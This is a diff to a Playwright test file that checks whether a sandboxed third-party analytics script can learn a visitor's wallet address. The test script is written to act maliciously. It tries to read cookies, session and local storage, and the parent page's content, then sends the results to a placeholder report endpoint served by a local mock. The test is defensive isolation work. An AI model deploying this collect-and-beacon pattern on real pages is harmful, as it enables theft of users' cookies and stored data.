@@ -1,18 +1,41 @@
 import { createServer, type IncomingHttpHeaders } from "node:http";
 import type { AddressInfo } from "node:net";
 import { pasteWallet, pathOf, slider, waitForScripts } from "./support/estimator";
-import { startApp } from "../tests/support/app-process";
+import { startApp, type AppProcess } from "../tests/support/app-process";
+import { keepScenarios } from "./support/saved";
 import { expect, test } from "./support/test";
 
 const WALLET = "0x2222222222222222222222222222222222222222";
 const OTHER_WALLET = "0x3333333333333333333333333333333333333333";
+const SAVED_WALLET = "0x4444444444444444444444444444444444444444";
 
-/** Does what such scripts do: reports where it is and where the visitor came from. */
+/**
+ * Does what such scripts do: takes the storage as it comes, reports where it is and where the
+ * visitor came from. Then it tries what a malicious one would.
+ */
 const SCRIPT = `
+  const { localStorage } = window;
   const { websiteId } = document.currentScript.dataset;
-  const report = () => navigator.sendBeacon("ORIGIN/report", JSON.stringify({
-    websiteId, href: location.href, referrer: document.referrer, title: document.title,
-  }));
+  const attempt = (read) => { try { return String(read()); } catch ({ name }) { return name; } };
+  const inChild = (read) => read(document.head.appendChild(document.createElement("iframe")).contentWindow);
+  const peek = () => ({
+    storage: attempt(() => localStorage),
+    session: attempt(() => sessionStorage.length),
+    cookies: attempt(() => document.cookie),
+    pageText: attempt(() => parent.document.body.textContent),
+    pageAddress: attempt(() => parent.location.href),
+    pageStorage: attempt(() => parent.localStorage),
+    childStorage: attempt(() => inChild((child) => child.localStorage.length)),
+  });
+  const report = () => {
+    const body = (by) => JSON.stringify({
+      by, websiteId, href: location.href, referrer: document.referrer, title: document.title, seen: peek(),
+    });
+    navigator.sendBeacon("ORIGIN/report", body("beacon"));
+    fetch("ORIGIN/report", {
+      method: "POST", body: body("fetch"), headers: { "Content-Type": "application/json" }, keepalive: true,
+    }).then((response) => response.text());
+  };
   for (const name of ["pushState", "replaceState"]) {
     const original = history[name];
     history[name] = function () { original.apply(this, arguments); report(); };
@@ -20,37 +43,77 @@ const SCRIPT = `
   report();
 `;
 
-test("the analytics script runs and learns no wallet", { tag: "@desktop" }, async ({ page }) => {
-  const analytics = await startAnalytics();
-  const server = await startApp({
-    ANALYTICS_SCRIPT_URL: `${analytics.url}/script.js`,
-    ANALYTICS_SITE_ID: "site-7",
+/** What the script finds where its frame has an origin of its own. */
+const NOTHING = {
+  storage: "undefined",
+  session: "SecurityError",
+  cookies: "SecurityError",
+  pageText: "SecurityError",
+  pageAddress: "SecurityError",
+  pageStorage: "SecurityError",
+  childStorage: "SecurityError",
+};
+
+test.describe("the analytics script", { tag: "@desktop" }, () => {
+  let analytics: Awaited<ReturnType<typeof startAnalytics>>;
+  let server: AppProcess;
+
+  test.beforeEach(async ({ context }) => {
+    analytics = await startAnalytics();
+    server = await startApp({
+      ANALYTICS_SCRIPT_URL: `${analytics.url}/script.js`,
+      ANALYTICS_SITE_ID: "site-7",
+    });
+    await keepScenarios(context, [["mine", { wallet: SAVED_WALLET }]]);
   });
-  try {
+  test.afterEach(async () => {
+    await server.stop();
+    await analytics.close();
+  });
+
+  /** Expects that there are reports, that they are whole, and that no wallet is in any request. */
+  function expectHarmless() {
+    const reports = analytics.reports();
+    expect(new Set(reports.map(({ by }) => by))).toEqual(new Set(["beacon", "fetch"]));
+    for (const report of reports) {
+      expect(report).toMatchObject({
+        websiteId: "site-7",
+        href: `${server.url}/analytics`,
+        referrer: "",
+        seen: NOTHING,
+      });
+    }
+    const told = JSON.stringify(analytics.requests).toLowerCase();
+    for (const wallet of [WALLET, OTHER_WALLET, SAVED_WALLET, "wallet=", "fdv"]) {
+      expect(told).not.toContain(wallet);
+    }
+  }
+
+  test("runs and reports, and learns no wallet", async ({ page }) => {
     await page.goto(`${server.url}${pathOf({ wallet: WALLET, fdv: 450_000_000 })}`);
     await waitForScripts(page);
-    await expect.poll(() => analytics.reports().length).toBeGreaterThan(0);
+    await expect.poll(() => analytics.reports().length).toBe(2);
     await slider(page, "FDV").press("End");
     await pasteWallet(page, OTHER_WALLET);
     await expect(page).toHaveURL(new RegExp(`wallet=${OTHER_WALLET}&fdv=1000000000$`));
     await expect(page.getByTestId("loading")).toHaveCount(0);
     await page.reload();
-    await expect.poll(() => analytics.reports().length).toBeGreaterThan(1);
-    for (const report of analytics.reports()) {
-      expect(report).toMatchObject({
-        websiteId: "site-7",
-        href: `${server.url}/analytics`,
-        referrer: "",
-      });
-    }
-    const told = JSON.stringify(analytics.requests);
-    for (const secret of [WALLET, OTHER_WALLET, "wallet=", "fdv", "0x2222", "0x3333"]) {
-      expect(told).not.toContain(secret);
-    }
-  } finally {
-    await server.stop();
-    await analytics.close();
-  }
+    await expect.poll(() => analytics.reports().length).toBe(4);
+    expect(await page.evaluate(() => JSON.stringify(localStorage))).toContain(SAVED_WALLET);
+    expectHarmless();
+  });
+
+  test("reads nothing either where its frame is opened as a page", async ({ page }) => {
+    await page.goto(`${server.url}/`);
+    await waitForScripts(page);
+    await expect.poll(() => analytics.reports().length).toBe(2);
+    analytics.requests.length = 0;
+    await page.goto(`${server.url}/analytics`);
+    await expect.poll(() => analytics.reports().length).toBe(2);
+    // A page is its own parent, with an address that it may know.
+    const own = { pageText: "", pageAddress: `${server.url}/analytics`, pageStorage: "undefined" };
+    for (const { seen } of analytics.reports()) expect(seen).toEqual({ ...NOTHING, ...own });
+  });
 });
 
 test(
@@ -71,7 +134,9 @@ async function startAnalytics() {
     for await (const chunk of request) body += chunk;
     requests.push({ url: request.url ?? "", headers: request.headers, body });
     response.setHeader("Content-Type", "text/javascript");
-    response.end(request.url === "/script.js" ? SCRIPT.replace("ORIGIN", url) : "");
+    response.setHeader("Access-Control-Allow-Origin", "*");
+    response.setHeader("Access-Control-Allow-Headers", "*");
+    response.end(request.url === "/script.js" ? SCRIPT.replaceAll("ORIGIN", url) : "");
   });
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
   const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
